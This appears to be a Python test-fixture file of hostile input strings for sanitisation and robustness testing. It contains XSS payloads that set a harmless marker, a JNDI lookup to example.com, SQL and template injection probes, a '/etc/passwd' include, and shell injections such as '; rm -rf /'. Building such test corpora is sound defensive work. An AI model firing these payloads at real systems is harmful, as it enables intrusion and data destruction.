"""About 150 hostile strings, written for this project (in the spirit of the "big list of naughty
strings", none copied from it): controls, bidi, surrogates, huge text, markup, template syntax,
SQL, emoji sequences, right-to-left scripts. Each markup string that could run script sets
window.__pwned, so a browser test can tell whether anything ran.
"""

PWN = "window.__pwned=1"

CONTROLS = [
    "null\x00byte in the middle",
    "\x00\x00\x00 leading nulls",
    "bell\x07 and backspace\x08\x08\x08 hidden",
    "escape \x1b[31mRED\x1b[0m terminal colours",
    "clear screen \x1b[2J\x1b[H then text",
    "title change \x1b]0;pwned\x07 in the terminal",
    "osc 52 clipboard \x1b]52;c;cHduZWQ=\x07 write",
    "cursor up \x1b[1A\x1b[2K overwrite the line above",
    "carriage\rreturn overwrites",
    "vertical\x0btab and form\x0cfeed",
    "delete char \x7f here",
    "c1 controls \x80\x85\x8d\x9b31m\x9f",
    "next line \x85 (NEL)",
    "csi c1 \x9b2J clear",
    "unit sep \x1f record sep \x1e group sep \x1d file sep \x1c",
    "shift out \x0e shift in \x0f",
    "all C0: " + "".join(chr(c) for c in range(32)),
    "all C1: " + "".join(chr(c) for c in range(0x80, 0xA0)),
    "tabs\tand\nnewlines\r\nmixed",
    "\n\n\nonly newlines around\n\n\n",
]

BIDI = [
    "\u202eevil reversed text\u202c then normal",
    "unclosed override \u202e reverses everything after",
    "\u202dforced ltr\u202c",
    "\u202aembedding\u202b rtl embedding",
    "\u2066isolate ltr\u2069 \u2067isolate rtl\u2069 \u2068first strong\u2069",
    "unclosed isolate \u2067 spills",
    "trojan source: access\u202e \u2066// check if admin\u2069 \u2066 level",
    "filename exe.\u202efdp.exe",
    "\u200fright-to-left mark and \u200eleft-to-right mark",
    "zero width \u200b space \u200c non joiner \u200d joiner \ufeff bom",
    "line separator \u2028 paragraph separator \u2029 end",
    "\u061c arabic letter mark",
]

SURROGATES = [
    "lone high \ud800 surrogate",
    "lone low \udc00 surrogate",
    "reversed pair \udc00\ud800",
    "\udfff at the start",
    "at the end \ud83d",
]

MARKUP = [
    f'<img src=x onerror="{PWN}"> awful terrible',
    f"<script>{PWN}</script> worst service ever",
    f'<a href="javascript:{PWN}">click me</a>',
    f'<svg onload="{PWN}"></svg>',
    f'<svg><script>{PWN}</script></svg>',
    f'<iframe src="javascript:{PWN}"></iframe>',
    f'<body onload="{PWN}">',
    f'<div style="background:url(javascript:{PWN})">styled</div>',
    f'"><script>{PWN}</script>',
    f"'><img src=x onerror={PWN}>",
    f'</textarea><script>{PWN}</script>',
    f'</title><script>{PWN}</script>',
    f'</script><script>{PWN}</script>',
    f'<details open ontoggle="{PWN}">',
    f'<input autofocus onfocus="{PWN}">',
    f'<video><source onerror="{PWN}"></video>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{PWN}">',
    f'<object data="javascript:{PWN}"></object>',
    f'<embed src="javascript:{PWN}">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{PWN}">',
    f'<base href="javascript:{PWN}//">',
    f'<form action="javascript:{PWN}"><button>go</button></form>',
    '<link rel=stylesheet href="http://example.com/x.css">',
    '<img src="http://example.com/tracker.png">',
    '<style>body{display:none}</style> invisible page',
    "<b>bold</b> <i>italic</i> <u>underline</u>",
    "&lt;already escaped&gt; &amp; &quot;entities&quot; &#60;script&#62;",
    "&#x3C;script&#x3E; hex entities",
    "<!-- comment --> hidden",
    "<![CDATA[ cdata ]]>",
    f'javascript:{PWN}',
    f'data:text/html,<script>{PWN}</script>',
    "[click](javascript:alert(1)) markdown link",
    "![img](http://example.com/x.png) markdown image",
    "**bold** _italic_ `code` # heading",
    f'<img src=x onerror=&#x77;indow.__pwned=1>',
    f'<scr<script>ipt>{PWN}</scr</script>ipt>',
    f'<IMG SRC=x OnErRoR="{PWN}">',
    f'<img\nsrc=x\nonerror="{PWN}">',
    f'<a href="jav&#x09;ascript:{PWN}">tab in scheme</a>',
]

TEMPLATES = [
    "{{ 7*7 }}", "{{ config }}", "{{ self.__init__.__globals__ }}", "{% for x in range(10**9) %}{% endfor %}",
    "{% include '/etc/passwd' %}", "${7*7}", "${jndi:ldap://example.com/a}", "#{7*7}", "<%= 7*7 %>",
    "{{constructor.constructor('" + PWN + "')()}}", "{7*7}", "%s%s%s%s%n", "{0.__class__}", "{date}",
    "$(whoami)", "`whoami`", "; rm -rf /", "[[ and 1 = 1 ]]", ":question", "{{ '<script>' }}",
]

SQL = [
    "'; DROP TABLE replies; --", "\" OR 1=1 --", "1; DELETE FROM questions", "' UNION SELECT * FROM _migrations --",
    "Robert'); DROP TABLE students;--", "%' AND 1=1 AND '%'='", "0x27 OR 1=1", "\\'; SELECT 1; --",
    "replies_fts MATCH '*'", "NEAR(\"a\" \"b\")", "\" AND \" OR \"", "title:* OR text:*",
]

UNICODE = [
    "👨‍👩‍👧‍👦 family ZWJ sequence", "🏳️‍🌈 flag sequence", "👍🏽👍🏿 skin tones", "🇩🇪🇯🇵 regional indicators",
    "🧑🏻‍🤝‍🧑🏿 people holding hands", "❤️‍🔥 heart on fire", "😀" * 100, "é vs e\u0301 combining",
    "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358\u0359\u035a\u035b\u035c\u035d\u035e\u035f\u0360algo",
    "שירות גרוע מאוד, לא אחזור", "خدمة سيئة جدا ولن أعود", "mixed עברית and English and العربية",
    "١٢٣ arabic digits ٤٥٦", "日本語のサービスは最悪でした", "한국어 서비스가 형편없어요", "Русский: ужасный сервис",
    "ΑΒΓ ελληνικά", "𝕳𝖊𝖑𝖑𝖔 math fraktur", "ｆｕｌｌｗｉｄｔｈ", "\U0001F600\U0001F601 astral", "\u00a0nbsp\u00a0",
    "\u3000ideographic space", "ǅ titlecase", "ﷺ ligature", "𒐫 cuneiform wide", "\ufffd replacement char",
    "\U000E0041 tag characters \U000E007F", "\U0010FFFF last code point", "\uffff noncharacter",
]

SHAPES = [
    "", " ", "\t", "a", "a" * 5000, "word " * 20000, "no-spaces-" * 3000, "https://example.com/" + "a" * 2000,
    "@brand @brand @brand", "#hashtag " * 50, "😀 " * 3000, "0", "-1", "NaN", "null", "undefined", "true",
    "1e308", "９９９", "[]", "{}", '{"a": 1}', "\\", "\\\\\\", "'", '"', "`", "<", ">", "&",
]

HUGE = ["awful " + "x" * 200_000]

CORPUS = CONTROLS + BIDI + SURROGATES + MARKUP + TEMPLATES + SQL + UNICODE + SHAPES + HUGE

# Authors carry markup and controls too (no lone surrogates here: those are covered in text).
AUTHORS = [
    f'<img src=x onerror="{PWN}">', "evil\x1b[2Juser", "user\u202eresu", "{{ 7*7 }}", "'; DROP TABLE x;--",
    "normal_user", "😀user", "שם_משתמש",
]
